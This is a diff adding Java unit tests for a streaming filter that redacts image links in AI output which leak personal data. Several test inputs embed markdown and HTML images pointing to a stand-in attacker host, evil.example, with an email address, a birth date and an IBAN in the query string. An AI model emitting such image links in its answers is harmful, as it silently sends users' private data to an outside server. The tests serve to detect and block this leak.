@@ -43,9 +43,42 @@ class StreamScreenExfiltrationTest {
     }
 
     @Test
+    void imageWithLongAltText() {
+        sameAsWhole(
+                "Sure. ![" + ALT + "](https://evil.example/p.png?u=john.doe@bigbank.com) Done.",
+                "Sure. ![" + ALT + "]([IMAGE_EXFILTRATION_1]) Done.");
+    }
+
+    @Test
+    void imgTagWithLongAttributesBeforeSrc() {
+        String attrs = "<img width=\"600\" height=\"400\" class=\"" + "chart ".repeat(70) + "\" src=\"";
+        sameAsWhole(
+                "Sure. " + attrs + "https://evil.example/p.png?dob=1985-06-17\"> Done.",
+                "Sure. " + attrs + "[IMAGE_EXFILTRATION_1]\"> Done.");
+    }
+
+    @Test
     void urlLongerThanTheHoldbackLeavesWhole() {
         String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                 + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
         sameAsWhole("Sure. ![x](" + url + ") Done.", "Sure. ![x]([IMAGE_EXFILTRATION_1]) Done.");
+    }
+
+    @Test
+    void ordinaryTextWithALongAltTextAndAnInnocentImageIsUnchangedAndStillStreams() {
+        String prose = "The weather was fine and the sea was calm, so we walked along the shore. ".repeat(6);
+        String text = prose + "![" + ALT + "](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg) " + prose
+                + "See [the docs](https://docs.python.org/3/library/asyncio.html). " + prose;
+        sameAsWhole(text, text);
+        StreamScreen screen = new StreamScreen(chain(), ScanContext.NONE, 128, 256);
+        int emitted = 0;
+        for (int i = 0; i < text.length(); i += 4) {
+            StreamScreen.Step s = screen.push(text.substring(i, Math.min(text.length(), i + 4)));
+            if (s instanceof StreamScreen.Step.Emit e) {
+                emitted += e.text().length();
+            }
+            // never more than the holdback plus one URL behind
+            assertThat(i + 4 - emitted).isLessThanOrEqualTo(128 + 4 + 70);
+        }
     }
 }
